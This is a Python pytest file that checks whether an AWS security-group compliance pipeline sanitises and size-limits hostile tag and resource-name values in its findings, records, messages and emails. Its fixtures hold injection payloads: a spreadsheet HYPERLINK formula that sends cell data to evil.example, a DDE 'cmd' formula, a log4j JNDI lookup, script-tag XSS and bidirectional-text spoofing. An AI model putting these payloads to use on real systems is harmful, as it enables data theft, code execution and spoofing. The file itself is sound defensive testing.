"""What others have written into their resources: it stays within bounds, and harmless, wherever it is shown."""

from __future__ import annotations

import json

import pytest

from emulation.aws import ACCOUNTS
from integration.outputs.scene import PREFIX
from opalite.publish.annotation import length

MEMBER = ACCOUNTS[1]
MEGABYTE = 1024 * 1024
MESSAGE_BYTES = 262_144  # of SNS
RECORD_BYTES = MEGABYTE

FORGED = "x\n\n1. All is well\r\n   State:     pass\u2028\u2029\x85FATAL"
HOSTILE = {
    "megabytes": {"owner": "p" * MEGABYTE, "env": "e" * MEGABYTE, **{f"key{n}": "v" * 10_000 for n in range(50)}},
    "emoji": {"owner": "👩‍👩‍👧‍👦🏴‍☠️" * 60, "env": "🧨" * 300, "🎈": "é" * 300},
    "control characters": {"owner": FORGED, "env": "\x1b[31mprod\x07\x00", "a\u202eb": "\u202egnp.exe\ufeff"},
    "formulas": {"owner": '=HYPERLINK("http://evil.example/?"&A1)', "env": "@SUM(1+1)*cmd|'/C calc'!A0", "-1": "+1"},
    "markup": {"owner": "<script>alert(1)</script>", "env": "<!channel> https://evil.example", "x": "${jndi:ldap://x}"},
    "json": {"owner": '["payments","everybody"]', "env": '{"$ne":1}'},
    "many": {f"key-{number:05}": "value" for number in range(5000)},
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_tags_and_texts(scene, function, rule, group, kind):
    tags = HOSTILE[kind]
    hostile = "".join(f"{key} {value} " for key, value in tags.items())
    item = group("sg-1", opened=22, tags=tags, resourceName=hostile)
    item["configuration"]["description"] = item["configuration"]["groupName"] = hostile
    item["configuration"]["ipPermissions"][-1]["ipv4Ranges"][0]["description"] = hostile
    function(scene.aws.config.change_event(item, rule))

    (annotation,) = [told["annotation"] for told in scene.aws.config.results(MEMBER, rule).values()]
    assert length(annotation) <= 256
    (finding,) = scene.whole_findings().values()  # that it is one that Security Hub takes, `scene` sees to
    assert finding["Compliance"]["Status"] == "FAILED"
    ((key, body),) = scene.objects().items()
    assert key.startswith(f"{PREFIX}/date=2026-03-02/region=eu-west-1/{MEMBER}-")
    assert len(body) < RECORD_BYTES
    (record,) = scene.records()
    assert (record["resource_id"], record["outcome"]) == ("sg-1", "fail")
    assert len(json.dumps(record, ensure_ascii=False).encode("utf-8", "surrogatepass")) <= RECORD_BYTES

    (document,) = scene.messages()
    ((subject, text),) = scene.mails()
    assert len(json.dumps(document).encode()) + len(text.encode()) <= MESSAGE_BYTES
    assert (subject.isascii(), subject.isprintable(), len(subject) < 100) == (True, True, True)
    labels = [line[3:14].strip() for line in text.splitlines() if line.startswith("   ")]
    assert labels == ["State:", "Policy:", "Resource:", "Account:", "Why:", "Fix:", "Read:", "Decision:", "Timeline:"]
    assert all(line.isprintable() for line in text.split("\n"))
    assert [line for line in text.splitlines() if line[:1].isdigit()] == [
        "1. Security groups do not open administration ports to the world"
    ]
    assert "evil.example" not in text.replace("[:]//evil.example", "")
    assert len(document["owner"]) <= 256
    assert all(value.isprintable() for value in (document["owner"], *document["environment"]))


@pytest.mark.parametrize(
    "resource_id", ["=1+1\n/../\u202e👩‍👩‍👧‍👦", "é/" * 384, "opalite/aws/" * 60], ids=["odd", "long", "forged"]
)
def test_hostile_ids_are_known_again(scene, function, rule, group, resource_id):
    change = scene.aws.config.change_event
    function(change(group(resource_id, opened=22, at="08:00:00.000"), rule))
    ((name, failed),) = scene.whole_findings().items()
    assert (length(name) <= 512, name.isprintable(), failed["Compliance"]["Status"]) == (True, True, "FAILED")
    function(change(group(resource_id, at="09:00:00.000"), rule))
    ((same, passed),) = scene.whole_findings().items()
    assert (same, passed["Compliance"]["Status"]) == (name, "PASSED")
    assert [record["resource_id"] for record in scene.records()] == [resource_id] * 2
    (message,) = scene.messages()
    assert message["changes"][0]["resource_id"].isprintable()
